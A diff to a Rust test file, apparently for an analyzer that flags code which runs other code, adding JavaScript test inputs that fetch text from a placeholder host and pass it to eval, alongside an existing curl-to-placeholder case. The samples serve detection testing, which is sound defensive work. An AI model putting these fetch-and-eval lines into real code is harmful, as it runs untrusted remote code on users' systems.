@@ -164,6 +164,14 @@ fn code_that_runs_code_is_followed() {
                 &["code: <fetched>", "shell: curl -s http://x.example/j"],
             ),
             (
+                "fetch('http://h').then(r => r.text()).then(eval)",
+                &["code: <fetched>"],
+            ),
+            (
+                "fetch('http://h').then(r => r.text()).then(t => eval(t))",
+                &["code: <fetched>"],
+            ),
+            (
                 "eval(await (await fetch('http://h')).text())",
                 &["code: <fetched>"],
             ),
